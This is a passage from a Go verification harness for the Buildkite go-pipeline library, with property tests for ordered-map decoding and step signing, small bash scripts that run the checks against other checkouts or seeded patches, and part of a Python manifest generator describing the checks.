	c.Parallel("stale", c.N(2000, 60000), func(i int, r *rand.Rand) {
		id := run.CaseID("stale", i)
		n := 0
		word := func() string { n++; return fmt.Sprintf("w%d", n) }
		strs := func() *doc.Node {
			l := doc.L()
			l.Seq = []*doc.Node{}
			for j, m := 0, r.IntN(3); j < m; j++ {
				l.Seq = append(l.Seq, doc.S(word()))
			}
			return l
		}
		leaf := func() *doc.Node {
			m := doc.M()
			m.Map = []doc.Pair{}
			if r.IntN(2) == 0 {
				m.Map = append(m.Map, doc.P("a", doc.S(word())))
			}
			if r.IntN(2) == 0 {
				m.Map = append(m.Map, doc.P("b", strs()))
			}
			if r.IntN(3) == 0 {
				n++
				m.Map = append(m.Map, doc.P("n", doc.I(int64(n))))
			}
			return m
		}
		list := func(mk func() *doc.Node) *doc.Node {
			l := doc.L()
			l.Seq = []*doc.Node{}
			for j, m := 0, 1+r.IntN(3); j < m; j++ {
				l.Seq = append(l.Seq, mk())
			}
			return l
		}
		d := doc.M(doc.P("jobs", list(leaf)), doc.P("ptrs", list(leaf)), doc.P("lists", list(strs)))
		var dst c16Lists
		stale := func() c16Leaf { return c16Leaf{A: "STALE", B: []string{"STALE", "STALE"}, N: -7} }
		dst.Jobs = make([]c16Leaf, 4, 8)
		dst.Ptrs = make([]*c16Leaf, 4, 8)
		dst.Lists = make([][]string, 4, 8)
		for j := 0; j < 4; j++ {
			s := stale()
			dst.Jobs[j], dst.Ptrs[j], dst.Lists[j] = stale(), &s, []string{"STALE", "STALE", "STALE"}
		}
		dst.Jobs, dst.Ptrs, dst.Lists = dst.Jobs[:0], dst.Ptrs[:0], dst.Lists[:0]
		var uerr error
		if pi := run.Guard(func() { uerr = ordered.Unmarshal(docToAny(d), &dst) }); pi != nil {
			c.Violation(id, map[string]any{"what": "Unmarshal panicked: " + pi.Value, "document": d.String(), "stack": pi.Stack})
			return
		}
		c.Eval(1)
		if uerr != nil {
			c.Violation(id, map[string]any{"what": "well-typed document rejected: " + uerr.Error(), "document": d.String()})
			return
		}
		var ref c16Lists
		if err := yaml.Unmarshal(doc.ToJSON(d), &ref); err != nil {
			c.Infra("stale: yaml.v3 rejects the document: %v", err)
			return
		}
		if diff := doc.Equal(valToDoc(reflect.ValueOf(ref)), valToDoc(reflect.ValueOf(dst)), doc.EqOpts{}); diff != "" {
			c.Violation(id, map[string]any{"what": "lists decoded into slices that had been emptied in place differ from yaml.v3's result on a fresh value (an item picked up what an old element held?): " + diff,
				"document": d.String(), "yaml_v3": valToDoc(reflect.ValueOf(ref)).String(), "go_pipeline": valToDoc(reflect.ValueOf(dst)).String()})
			return
		}
		c.Count("documents_into_emptied_slices", 1)
	})
}

func checkC16(c *run.Ctx) {
	c16OrderedPhase(c)
	c16WarnPhase(c)
	c16StalePhase(c)
	ntypes := c.N(4000, 100000)
	ndocs := c.N(20, 50)
	c.Parallel("type", ntypes, func(i int, r *rand.Rand) {
		g := &c16Gen{r: r, names: map[string]bool{}, aliasFree: i%2 == 0}
		t := g.typ(0, true)
		rt := t.goType()
		v3ok := t.supportsV3()
		c.Feature(c16TypeFeatures(t), v3ok)
		for dI := 0; dI < ndocs; dI++ {
			id := fmt.Sprintf("type/%d", i)
			strict := v3ok && dI%2 == 0
			plan := &c16Plan{}
			m := g.document(t, strict, plan)
			src := docToAny(m).(*ordered.MapSA)
			if dI%3 == 1 {
				// the decoded input may carry deleted / displaced entries: rebuild it with junk keys
				// interleaved, then delete or rename them away (tombstones stay in the storage)
				src = ordered.NewMap[string, any](0)
				var junk []string
				for pi, p := range m.Map {
					if g.r.IntN(2) == 0 {
						jk := fmt.Sprintf("junk-%d", pi)
						src.Set(jk, "stale value that no field and no catch-all may see")
						junk = append(junk, jk)
					}
					src.Set(p.Key, docToAny(p.Val))
				}
				for ji, jk := range junk {
					if ji == 0 || g.r.IntN(3) != 0 {
						src.Delete(jk)
					}
				}
				for _, jk := range junk {
					src.Delete(jk) // whatever is left; the earlier deletions decide whether a compaction happened in between
				}
				c.Count("inputs_with_tombstones", 1)
			}
			// (a) destination pre-populated with sentinels: routing, untouched, zeroed
			dst := reflect.New(rt)
			exp := c16Expect(t, dst.Elem(), m, plan, true)
			var uerr error
			if pi := run.Guard(func() { uerr = ordered.Unmarshal(src, dst.Interface()) }); pi != nil {
				c.Violation(id, map[string]any{"what": "Unmarshal panicked: " + pi.Value, "type": rt.String(), "document": m.String(), "stack": pi.Stack})
				return
			}
			c.Eval(1)
			if uerr != nil {
				c.Violation(id, map[string]any{"what": "well-typed document rejected: " + uerr.Error(), "type": rt.String(), "document": m.String()})
				return
			}
			got := valToDoc(dst.Elem())
			if diff := doc.Equal(foldEmpty(exp), got, doc.EqOpts{}); diff != "" {
				c.Violation(id, map[string]any{"what": "keys were not routed to exactly one destination each (tag > first present alias > inline catch-all), or an absent key modified a field, or null did not zero: " + diff,
					"type": rt.String(), "document": m.String(), "expected": foldEmpty(exp).String(), "got": got.String()})
				return
			}
			for _, how := range plan.how {
				c.Count("field_addressed_"+how, 1)
			}
			c.Count("documents_routed", 1)
			// (b) alias-free, well-typed: equals yaml.v3's own decoder on a fresh value
			if strict {
				text := doc.ToJSON(m)
				ref := reflect.New(rt)
				if err := yaml.Unmarshal(text, ref.Interface()); err != nil {
					c.Count("yaml_v3_rejects", 1)
					continue
				}
				fresh := reflect.New(rt)
				if err := ordered.Unmarshal(docToAny(m).(*ordered.MapSA), fresh.Interface()); err != nil {
					c.Violation(id, map[string]any{"what": "well-typed document rejected on a fresh value: " + err.Error(), "type": rt.String(), "document": string(text)})
					return
				}
				if diff := doc.Equal(valToDocStrict(ref.Elem()), valToDocStrict(fresh.Elem()), doc.EqOpts{}); diff != "" {
					c.Violation(id, map[string]any{"what": "result differs from yaml.v3's own decoder for an alias-free type and well-typed document: " + diff,
						"type": rt.String(), "document": string(text), "yaml_v3": valToDoc(ref.Elem()).String(), "go_pipeline": valToDoc(fresh.Elem()).String()})
					return
				}
				c.Count("reference_decoder_comparisons", 1)
			}
			if c.WantSample() && len(t.Fields) >= 3 && dI == 1 {
				c.Sample(map[string]any{"type": rt.String(), "document": m.String(), "result": got.String()})
			}
		}
	})
	c.Finish("exploration",
		"a fixed member with ordered-map fields of typed values (lists, structs by value and by pointer, plain maps, strings) is decoded from random documents and compared with yaml.v3 on its plain-map twin (entries independent, pointers distinct, document order kept); a family of struct types built with reflect.StructOf from a harness-owned descriptor (scalar, slice, map, any, nested and pointer-to-struct fields; tagged, untagged, `-` and omitempty fields; alias lists; inline map, inline struct, inline pointer-to-struct incl. an inline map nested in an inline struct; inline field at a random position) x well-typed documents drawn from the same descriptor (fields addressed by primary key, by an alias with later aliases also present, absent, or null; an alias next to its primary; keys named like skipped fields; the empty key; extra keys), decoded into destinations pre-populated with sentinels; the expected partition (tag > first present alias > catch-all; untouched; zeroed) is derived from the descriptor. For alias-free types and strictly typed documents the result on a fresh value must equal yaml.v3's own decoder. distinct_nontrivial counts distinct type shapes",
		nil,
		[]string{"types where one field's alias equals another field's key or alias are ill-formed and not generated", "present slices/maps are decoded into nil destinations (append-vs-replace for pre-populated containers is not part of the property)", "yaml.v3 comparison only where yaml.v3 supports the type (no aliases; inline map directly on the struct, or inline struct by value without its own catch-all) and without nulls"})
}

func c16TypeFeatures(t *c16Type) string {
	kinds := map[string]bool{}
	var rec func(t *c16Type, d int)
	maxd := 0
	rec = func(t *c16Type, d int) {
		if d > maxd {
			maxd = d
		}
		for _, f := range t.Fields {
			kinds[f.Kind] = true
			if f.Skip {
				kinds["skip"] = true
			}
			if f.Key == "" && !f.Skip {
				kinds["untagged"] = true
			}
			if len(f.Aliases) > 0 {
				kinds["aliases"] = true
			}
			if f.Sub != nil {
				rec(f.Sub, d+1)
			}
		}
		if t.Inline != "" {
			kinds["inline:"+t.Inline] = true
			if t.InlineSub != nil {
				if t.InlineSub.Inline != "" {
					kinds["nested-inline:"+t.InlineSub.Inline] = true
				}
				rec(t.InlineSub, d+1)
			}
		}
	}
	rec(t, 0)
	ks := make([]string, 0, len(kinds))
	for k := range kinds {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return fmt.Sprintf("%s d%d", strings.Join(ks, ","), maxd)
}
