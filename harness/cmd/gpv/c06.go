package main

import (
	"fmt"
	"github.com/google/go-cmp/cmp"
	"math/rand/v2"
	"reflect"
	"sort"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/signature"
	"github.com/buildkite/go-pipeline/warning"

	"verif/doc"
	"verif/gen"
	"verif/keys"
	"verif/run"
	"verif/util"
)

func init() { register("C06", checkC06) }

// c06Build builds a step list programmatically: a mixture of all kinds,
// groups nested to depth 4, optionally one unknown step at a chosen
// (depth, position).
type c06List struct {
	Steps      pipeline.Steps
	NCommand   int
	MaxDepth   int
	UnknownAt  string // "" if none
	unknownSet bool
	LongN      int // when > 0: the first list built at depth LongAt has this many entries
	LongAt     int
	longDone   bool
}

func c06Command(r *rand.Rand, uid *gen.UID) *pipeline.CommandStep {
	st := &pipeline.CommandStep{Command: "echo " + uid.Next(), Label: gen.String(r, gen.StringOpts{Tricky: true})}
	if r.IntN(2) == 0 {
		st.Env = map[string]string{}
		for i, n := 0, r.IntN(4); i < n; i++ {
			v := "step-" + uid.Next()
			if r.IntN(4) == 0 {
				v = "" // an empty value still shadows the pipeline variable
			}
			st.Env[[]string{"A", "B", "C", "D", "SHARED"}[r.IntN(5)]] = v
		}
	}
	if r.IntN(3) == 0 {
		st.Plugins = pipeline.Plugins{{Source: "docker#v1", Config: map[string]any{"image": "alpine", "n": r.IntN(10)}}}
		if r.IntN(2) == 0 {
			// explicitly empty configs (mapping, list) and an absent one: signed as null, left as they are
			st.Plugins = append(st.Plugins, &pipeline.Plugin{Source: "ecr#v2", Config: map[string]any{}}, &pipeline.Plugin{Source: "cache#v1", Config: []any{}}, &pipeline.Plugin{Source: "bare#v1"})
		}
	}
	many := func(n int) map[string]any {
		m := map[string]any{}
		for i := 0; i < n; i++ {
			m[fmt.Sprintf("extra_%d_%s", i, uid.Next())] = []any{i, "v", map[string]any{"k": i}}
		}
		return m
	}
	if r.IntN(4) == 0 {
		st.Matrix = &pipeline.Matrix{Setup: pipeline.MatrixSetup{"": {"a", "b"}}}
		switch r.IntN(4) {
		case 0: // a non-simple matrix with many unknown keys (9, 17 and 40 cross typical size thresholds)
			st.Matrix.RemainingFields = many([]int{1, 9, 17, 40}[r.IntN(4)])
		case 1:
			st.Matrix.Setup = pipeline.MatrixSetup{"os": {"linux"}, "arch": {"amd64", "arm64"}}
			st.Matrix.Adjustments = pipeline.MatrixAdjustments{{With: pipeline.MatrixAdjustmentWith{"os": "plan9", "arch": "386"}, RemainingFields: many([]int{0, 2, 9, 20}[r.IntN(4)])}}
		}
	}
	if r.IntN(6) == 0 {
		st.RemainingFields = many([]int{9, 17, 33}[r.IntN(3)])
	}
	if r.IntN(8) == 0 {
		st.Cache = &pipeline.Cache{Paths: []string{"a"}, RemainingFields: many([]int{3, 9, 20}[r.IntN(3)])}
	}
	if r.IntN(4) == 0 {
		st.RemainingFields = map[string]any{"agents": map[string]any{"queue": "q"}, "timeout": 5}
	}
	if r.IntN(6) == 0 {
		st.Key = "k" + uid.Next()
	}
	return st
}

func c06Other(r *rand.Rand, uid *gen.UID) pipeline.Step {
	switch r.IntN(5) {
	case 0:
		return &pipeline.WaitStep{Scalar: "wait"}
	case 1:
		return &pipeline.WaitStep{Contents: map[string]any{"wait": nil, "continue_on_failure": true}}
	case 2:
		return &pipeline.InputStep{Contents: map[string]any{"block": "Release " + uid.Next()}}
	case 3:
		return &pipeline.InputStep{Scalar: "block"}
	}
	if r.IntN(2) == 0 {
		return pipeline.TriggerStep{Contents: map[string]any{"trigger": "by-value-" + uid.Next()}}
	}
	return &pipeline.TriggerStep{Contents: map[string]any{"trigger": "other-" + uid.Next()}}
}

// build makes a list; unknownDepth < 0 means no unknown step. The unknown
// step is placed in the first list that reaches unknownDepth, at position
// unknownPos (clamped; -1 = last).
func (l *c06List) build(r *rand.Rand, uid *gen.UID, depth, maxDepth, unknownDepth, unknownPos int) pipeline.Steps {
	n := 1 + r.IntN(4)
	if l.LongN > 0 && depth == l.LongAt && !l.longDone {
		n, l.longDone = l.LongN, true
	}
	var steps pipeline.Steps
	mustGroup := (unknownDepth > depth && !l.unknownSet) || (depth < maxDepth && r.IntN(3) == 0)
	groupAt := r.IntN(n)
	for i := 0; i < n; i++ {
		switch {
		case i == groupAt && mustGroup && depth < 4:
			g := &pipeline.GroupStep{Steps: pipeline.Steps{}}
			if r.IntN(2) == 0 {
				s := "group " + uid.Next()
				g.Group = &s
			}
			// group keys are data: nested groups (and their command steps) may well carry the same key, or none
			g.Key = []string{"", "deploy", "deploy", "build", "k"}[r.IntN(5)]
			g.Steps = l.build(r, uid, depth+1, maxDepth, unknownDepth, unknownPos)
			if g.Steps == nil {
				g.Steps = pipeline.Steps{}
			}
			steps = append(steps, g)
			if depth+1 > l.MaxDepth {
				l.MaxDepth = depth + 1
			}
		case r.IntN(10) < 6:
			steps = append(steps, c06Command(r, uid))
			l.NCommand++
		default:
			steps = append(steps, c06Other(r, uid))
		}
	}
	if unknownDepth == depth && !l.unknownSet {
		l.unknownSet = true
		var u pipeline.Step
		switch r.IntN(3) {
		case 0:
			u = &pipeline.UnknownStep{Contents: "mystery"}
		case 1:
			u = &pipeline.UnknownStep{Contents: map[string]any{"deploy": "prod"}}
		default:
			u = &pipeline.UnknownStep{Contents: nil}
		}
		pos := unknownPos
		if pos < 0 || pos > len(steps) {
			pos = len(steps)
		}
		steps = append(steps[:pos:pos], append(pipeline.Steps{u}, steps[pos:]...)...)
		where := "middle"
		if pos == 0 {
			where = "first"
		} else if pos == len(steps)-1 {
			where = "last"
		}
		l.UnknownAt = fmt.Sprintf("depth%d/%s", depth, where)
	}
	return steps
}

func expectedFields(step *pipeline.CommandStep, penv map[string]string) []string {
	f := []string{"command", "env", "matrix", "plugins", "repository_url"}
	for k := range penv {
		if _, shadowed := step.Env[k]; !shadowed {
			f = append(f, "env::"+k)
		}
	}
	sort.Strings(f)
	return f
}

func checkC06(c *run.Ctx) {
	all, err := keys.All()
	must(c, err)
	n := c.N(2400, 400000)
	c.Parallel("list", n, func(i int, r *rand.Rand) {
		uid := &gen.UID{}
		id := run.CaseID("list", i)
		kind := []string{"EdDSA", "EdDSA", "EdDSA", "ES512", "PS512", "ES256-signer"}[mix(i, 1, 6)]
		kp := all[kind][0]
		l := &c06List{}
		maxDepth := r.IntN(5)
		if mix(i, 11, 6) == 0 {
			// a long list (at the top or inside a group): the 33rd, the 65th, the last of 257 steps are signed like the first
			l.LongN = []int{31, 33, 39, 64, 65, 100, 257}[mix(i, 12, 7)]
			l.LongAt = mix(i, 13, 2)
			if l.LongAt > maxDepth {
				maxDepth = l.LongAt
			}
			c.Count("lists_with_more_than_30_steps", 1)
		}
		unknownDepth := -1
		unknownPos := 0
		if i%2 == 1 {
			unknownDepth = (i / 2) % 5
			if unknownDepth > maxDepth {
				maxDepth = unknownDepth
			}
			unknownPos = []int{0, 1, -1}[(i/10)%3]
		}
		viaParse := i%5 == 4 && unknownDepth < 0
		var steps pipeline.Steps
		if viaParse {
			d, err := gen.Pipeline(r, gen.PipeOpts{Str: gen.StringOpts{Tricky: true}, NoTime: true, SmallInts: true, MaxGroupDepth: 3}.NoSweep())
			if err != nil {
				return
			}
			p, perr := parseText(string(doc.ToJSON(d.Plain)))
			if perr != nil && !warning.Is(perr) {
				return
			}
			steps = p.Steps
			allCommandSteps(steps, func(string, *pipeline.CommandStep) { l.NCommand++ })
			c.Count("lists_via_parse", 1)
		} else {
			steps = l.build(r, uid, 0, maxDepth, unknownDepth, unknownPos)
			if unknownDepth >= 0 && !l.unknownSet {
				return
			}
		}
		// pipeline env: nil, empty, disjoint, partial overlap, total overlap
		var penv map[string]string
		switch r.IntN(5) {
		case 0:
			penv = nil
		case 1:
			penv = map[string]string{}
		case 2:
			penv = map[string]string{"P1": "v1", "P2": "v2", "env": "lower", "node_version": "20", "v": "1", "TAG_\uff21": "high BMP", "TAG_\U0001f680": "astral", "TAG_\ue000": "private use"}
		case 3:
			penv = map[string]string{"A": "pa", "SHARED": "ps", "P3": "v3", "env::A": "looks namespaced already", "env::": "just the prefix", "env:A": "one colon",
				"": "the variable without a name", "FLAGS=FAST": "an equals sign in the name", "=": "only an equals sign", " ": "a blank"}
		default:
			penv = map[string]string{"A": "pa", "B": "pb", "C": "pc", "D": "pd", "SHARED": "ps"}
		}
		if len(penv) > 0 && r.IntN(3) == 0 {
			// an empty pipeline variable is still a variable
			ks := make([]string, 0, len(penv))
			for k := range penv {
				ks = append(ks, k)
			}
			sort.Strings(ks)
			penv[ks[r.IntN(len(ks))]] = ""
		}
		penvCopy := copyEnv(penv)
		if penv == nil {
			penvCopy = nil
		}
		// every fourth list: some command steps already carry a signature record from an earlier signing
		// (another key, other fields); signing replaces it like any other
		if r.IntN(4) == 0 {
			allCommandSteps(steps, func(_ string, s *pipeline.CommandStep) {
				if r.IntN(2) == 0 {
					s.Signature = &pipeline.Signature{Algorithm: "ES512", SignedFields: []string{"command", "env", "env::OLD", "matrix", "plugins", "repository_url"}, Value: "eyJhbGciOiJFUzUxMiJ9..c3RhbGU"}
					c.Count("command_steps_with_a_stale_signature_before_signing", 1)
				}
			})
		}
		twin := util.DeepCopy(steps)
		repo := []string{"git@github.com:org/repo.git", "", "https://example.com/org/repo"}[mix(i, 2, 3)] // the empty URL is a URL like any other: still one of the five mandatory fields
		var serr error
		if pi := run.Guard(func() { serr = signature.SignSteps(bg, steps, kp.Signer, repo, signature.WithEnv(penv)) }); pi != nil {
			c.Violation(id, map[string]any{"what": "SignSteps panicked: " + pi.Value, "stack": pi.Stack})
			return
		}
		c.Eval(1)
		c.Feature(kind, l.MaxDepth, l.UnknownAt, len(penv), viaParse)
		desc := func(what string) map[string]any {
			return map[string]any{"what": what, "steps": clip(modelToDoc(twin).String(), 6000), "pipeline_env": penv, "key_kind": kind, "unknown_at": l.UnknownAt}
		}
		if fmt.Sprint(penv) != fmt.Sprint(penvCopy) || (penv == nil) != (penvCopy == nil) {
			c.Violation(id, desc("SignSteps modified the caller's env map"))
			return
		}
		if l.UnknownAt != "" {
			c.Count("unknown_placement_"+l.UnknownAt, 1)
			if serr == nil {
				c.Violation(id, desc("SignSteps succeeded although a step of unknown kind occurs at "+l.UnknownAt))
				return
			}
			c.Count("refusals", 1)
			return
		}
		if serr != nil {
			c.Violation(id, desc("SignSteps failed on a list without unknown steps: "+serr.Error()))
			return
		}
		// Every command step at every depth is signed, verifies, names the algorithm and has the exact field list.
		nSigned := 0
		bad := ""
		allCommandSteps(steps, func(path string, s *pipeline.CommandStep) {
			if bad != "" {
				return
			}
			if s.Signature == nil {
				bad = "command step " + path + " has no signature"
				return
			}
			if s.Signature.Algorithm != kp.Alg {
				bad = fmt.Sprintf("step %s: algorithm %q, key algorithm %q", path, s.Signature.Algorithm, kp.Alg)
				return
			}
			want := expectedFields(s, penv)
			if strings.Join(want, ",") != strings.Join(s.Signature.SignedFields, ",") {
				bad = fmt.Sprintf("step %s: signed fields %q, want %q", path, s.Signature.SignedFields, want)
				return
			}
			venv := copyEnv(penv)
			venv["UNRELATED"] = "x"
			if _, err := verifyStep(kp.Verifier, s.Signature, s, repo, venv); err != nil {
				bad = fmt.Sprintf("step %s: signature does not verify: %v", path, err)
				return
			}
			nSigned++
		})
		if bad != "" {
			c.Violation(id, desc(bad))
			return
		}
		if nSigned != l.NCommand {
			c.Violation(id, desc(fmt.Sprintf("%d command steps signed, the list has %d", nSigned, l.NCommand)))
			return
		}
		c.Count("command_steps_verified", nSigned)
		c.Max("max_group_depth", int64(l.MaxDepth))
		// Key rotation that keeps the key id: the same list, signed again with another key of the same kind and id,
		// must carry signatures that verify under the new key (nothing of an earlier signing may be reused).
		if i%3 == 0 {
			kp2 := all[kind][1]
			again := util.DeepCopy(twin)
			var rerr error
			if pi := run.Guard(func() { rerr = signature.SignSteps(bg, again, kp2.Signer, repo, signature.WithEnv(copyEnv(penv))) }); pi != nil {
				c.Violation(id, map[string]any{"what": "SignSteps (second key) panicked: " + pi.Value, "stack": pi.Stack})
				return
			}
			if rerr != nil {
				c.Violation(id, desc("SignSteps with a second key of the same kind and key id failed: "+rerr.Error()))
				return
			}
			allCommandSteps(again, func(path string, s *pipeline.CommandStep) {
				if bad != "" {
					return
				}
				if s.Signature == nil {
					bad = "after re-signing with a second key: command step " + path + " has no signature"
					return
				}
				venv := copyEnv(penv)
				if _, err := verifyStep(kp2.Verifier, s.Signature, s, repo, venv); err != nil {
					bad = fmt.Sprintf("the list was signed with one key and then, unchanged, with a second key of the same kind and key id: step %s does not verify under the second key: %v", path, err)
				}
			})
			if bad != "" {
				c.Violation(id, desc(bad))
				return
			}
			c.Count("lists_resigned_with_second_key_same_id", 1)
		}
		// Nothing but signatures changed.
		allCommandSteps(steps, func(_ string, s *pipeline.CommandStep) { s.Signature = nil })
		allCommandSteps(twin, func(_ string, s *pipeline.CommandStep) { s.Signature = nil })
		if diff := doc.Equal(modelToDocRaw(twin), modelToDocRaw(steps), doc.EqOpts{HonourOrderedKeys: true}); diff != "" {
			c.Violation(id, desc("signing changed something other than attaching signatures: "+diff))
			return
		}
		// the same with Go's own eyes: nil versus empty containers, unexported fields
		if allFields := cmp.Exporter(func(reflect.Type) bool { return true }); !cmp.Equal(twin, steps, allFields) {
			c.Violation(id, desc("signing changed something other than attaching signatures (deep comparison, nil and empty containers told apart): "+clip(cmp.Diff(twin, steps, allFields), 3000)))
			return
		}
		if c.WantSample() && l.MaxDepth >= 2 {
			c.Sample(map[string]any{"steps": clip(modelToDoc(twin).String(), 1500), "pipeline_env": penv, "command_steps": nSigned, "max_depth": l.MaxDepth})
		}
	})
	c.Finish("exploration",
		"step lists built programmatically (mixtures of command, wait, input, trigger, group; groups nested to depth 4; in every second list one unknown step placed at each depth 0-4 and first/second/last position in turn, with string, mapping and nil contents) and lists obtained through Parse; pipeline env nil/empty/disjoint/partially/totally overlapping the step envs; four key kinds. After SignSteps: refusal iff an unknown step exists; otherwise every command step at every depth (harness tree walk) carries a signature naming the key's algorithm, with exactly the sorted field list (5 mandatory + env::NAME for each unshadowed pipeline variable), that verifies; a deep twin shows nothing but signatures changed; the env map is unchanged. distinct_nontrivial counts distinct (key kind, depth, unknown placement, env size, via Parse) classes",
		nil,
		[]string{"verification itself is the library's Verify with the matching public key (C01 covers its discrimination)"})
}
