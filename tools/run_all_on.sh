#!/bin/bash
# usage: tools/run_all_on.sh <repo-checkout-dir> [ID...]   -- runs the quick tier of all (or the named) checks against another checkout
D="$1"; shift
IDS="$@"; [ -z "$IDS" ] && IDS="C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C17 C18 C19"
cd /verif
for id in $IDS; do
  OUT=$(GPV_REPO="$D" ./check $id quick 2>&1); RC=$?
  echo "$id rc=$RC $(echo "$OUT" | grep -a "^C[0-9]* quick" | tail -1 | cut -c1-90)"
  if [ $RC -ne 0 ]; then echo "$OUT" | grep -a "^VIOLATION\|^  case\|INFRA" | head -4 | cut -c1-400; fi
done
