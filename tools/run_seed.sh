#!/bin/bash
# usage: tools/run_seed.sh <seed-name> <ID> [more IDs...]
# Re-runs the named checks (quick tier) against a scratch worktree of /repo HEAD with
# /verif/seeded/<seed-name>/patch.diff applied, and records the outcome in its meta.json.
set -u
NAME="$1"; shift
OUT=/verif/seeded/$NAME
SCR=/tmp/seedrun-$NAME
rm -rf "$SCR"; git -C /repo worktree add -q --detach "$SCR" HEAD || exit 9
( cd "$SCR" && git apply "$OUT/patch.diff" ) || { echo "$NAME: patch does not apply"; git -C /repo worktree remove --force "$SCR"; exit 9; }
RES=""
for ID in "$@"; do
  cd /verif && GPV_REPO="$SCR" ./check "$ID" quick > "$OUT/check_$ID.txt" 2>&1; RC=$?
  # keep the record small
  grep -a "^VIOLATION\|^  case\|^C[0-9]* quick\|^KNOWN\|died" "$OUT/check_$ID.txt" | cut -c1-600 | head -40 > "$OUT/check_$ID.txt.tmp"; mv "$OUT/check_$ID.txt.tmp" "$OUT/check_$ID.txt"
  RES="$RES $ID:rc=$RC"
done
git -C /repo worktree remove --force "$SCR"
python3 - "$OUT/meta.json" "$RES" <<'PY'
import json,sys,subprocess
m=json.load(open(sys.argv[1]))
m["checks_run_against_it"]=sys.argv[2].strip()
m["checks_run_at_verif_commit"]=subprocess.check_output(["git","-C","/verif","log","--format=%h","-1"]).decode().strip()
json.dump(m,open(sys.argv[1],"w"),indent=1)
PY
echo "$NAME:$RES"
