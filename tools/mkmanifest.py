#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (run from /verif)."""
import json, os, sys

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# id -> (category, technique, level text, level note, design ref)
CHECKS = {
 "C05": ("exploration",
         "reference-model history monitor + invariant hook (bounded-exhaustive BFS over slot layouts, long random histories)",
         "Every operation of the ordered map is applied from every slot layout reachable within a bounded history length (three keys, stale tombstone keys included) and in long random histories over 4/16/200 keys and an alphabet of look-alike and control-character keys that cross the compaction threshold thousands of times, started from empty maps and from maps built with MapFromItems out of a caller-owned slice (which, like a sibling built from it, must stay untouched); after every operation all observers (Len, IsZero, Get, Contains, Range incl. early exit and renaming callbacks, ToMap, ToMapRecursive, both encoders re-read with independent readers, Equal against an independently built twin, perturbed twins and a pool of reached states) are compared with a list-of-pairs model and the index/slot invariant hook is evaluated. A large-map phase empties maps of 1022 to 4096 / 9000 keys in bulk in five patterns and writes to them again. A nested-equal phase compares maps whose container values hold ordered maps of equal content and different histories. Held on the executions observed; not a proof.",
         "Trusts the list-of-pairs model, encoding/json's token reader and yaml.v3's Node reader as independent readers; values are opaque to the map so layouts, not values, are enumerated.",
         "DESIGN.md §2 C05"),
 "C10": ("exploration",
         "reference-model monitor: sequential env-fold model vs Interpolate over generated env blocks x flag x five caller environments (incl. the internal env through a hook)",
         "Random env blocks (chains, forward references, names built by expansion and colliding, empty names, runtime overlaps, failing expansions) are interpolated by the real code and by a sequential fold model that rewrites a list-of-pairs block in place and feeds a model environment; block order and contents, a probe string in a step and the caller's environment (harness case-sensitive/-insensitive, the library's internal env in both modes, nil) must agree for both settings of the runtime-precedence flag; env blocks built with MapFromItems from one slice for two pipelines, and a caller environment that is a zero-valued stateless struct, are included. Values growing beyond 64 KiB through expansion are included. Held on the executions observed.",
         "Trusts github.com/buildkite/interpolate (a dependency, not code under test) for single-string expansion and the list-of-pairs model; state after a failed expansion is not compared.",
         "DESIGN.md §2 C10"),
 "C11": ("exploration",
         "reference-model monitor: matrix-specification predicate vs InterpolateMatrixPermutation, bounded-exhaustive small scope + random, twin/JSON before-after monitor for rejected permutations",
         "Every matrix of a small scope (anonymous/1/2/3 dimensions, value subsets of {x,y}, 0-2 adjustments from all tuples over {x,y,z} plus malformed shapes, four skip kinds) is checked against every candidate permutation incl. wrong-arity and unknown-dimension ones (about 2.4 million pairs in the quick tier), then random larger matrices; acceptance must equal the specification predicate written in the harness and a rejected permutation must leave the step deep-equal to a twin and JSON-identical. A sample of matrices is built through Parse. Matrices with 63 to 300 adjustments are included. Held on the executions observed.",
         "Trusts the predicate as a faithful reading of the property; null dimension lists are not generated; which error is returned is not checked.",
         "DESIGN.md §2 C11"),
 "C12": ("exploration",
         "reference-model monitor: hand-written single-pass token scanner mapped over a step specification vs InterpolateMatrixPermutation",
         "Command steps are built from a specification that lists every string; tokens with inner whitespace, near misses, embedded tokens and plain text are planted in every in-scope position class (command, label, plugin sources, plugin config keys/values at depth incl. maps beyond 8 entries whose keys get renamed, env values, extra keys/values) and in the out-of-scope ones (env names, key, matrix, signature). The expected step is the specification mapped through an independent scanner; a token for a missing dimension must make the call fail; an empty permutation must change nothing. A second phase parses YAML documents in which anchored values carrying tokens are referenced by several aliases in unknown fields of one and of several steps, interpolates the steps in random order and compares each with the scanner applied to a pristine twin, immediately and after all siblings were done. Strings of 64 KiB to 200000 bytes occur in every container position. Held on the executions observed.",
         "Trusts the scanner as the reading of the token grammar (ASCII whitespace inside braces); cache scope and atomicity on failure are not asserted.",
         "DESIGN.md §2 C12"),
 "C15": ("exploration",
         "exhaustive rule-table monitor: all key subsets x type values x extra-key variants parsed through Parse in two positions and two formats",
         "The documented rule table is written out in the harness and compared with the dynamic type of the parsed step, and with the sentinel error inside the warning, for all 1024 subsets of the ten kind-determining keys x 14 type values (absent, documented names, unknown/empty/case variants) x 5 extra-key variants (incl. the empty key and alias-named keys), shuffled key order, at top level and inside a group, as JSON and as YAML; plus all scalar words and a sample of non-words. An edited-mapping phase decodes ordered maps a program built and edited (keys set and deleted again, renamed, renamed onto a present key) and applies the table to the keys the mapping has now. Long lists (to 700 entries) check kinds and that every fallback's cause is reported. The table part is a complete enumeration.",
         "A group whose child falls back to unknown may itself be kept as one verbatim unknown step (accepted when the warning names the cause); non-string type values are hard errors by design and not in the table.",
         "DESIGN.md §2 C15"),
 "C17": ("exploration",
         "reference-model monitor: sources generated from the documented forms with the canonical form known by construction; idempotence and marshalled key on all short strings",
         "Sources are generated form by form (name, org/name with git-legal refs, paths, scheme URLs, scp-style, drive letters, three or more segments, canonical) so the expected canonical source is known by construction; FullSource must equal it, be idempotent, not modify the plugin, and be the key of both marshalled forms; every string up to length 5/6 over a reduced alphabet (refs restricted to the property's ref language) is checked for idempotence and marshalled key. Names and refs long enough for canonical forms beyond 256 bytes are included. Held on the executions observed.",
         "Percent-encoded sources and refs with empty or dot-only components are outside the property and filtered out.",
         "DESIGN.md §2 C17"),
 "C18": ("exploration",
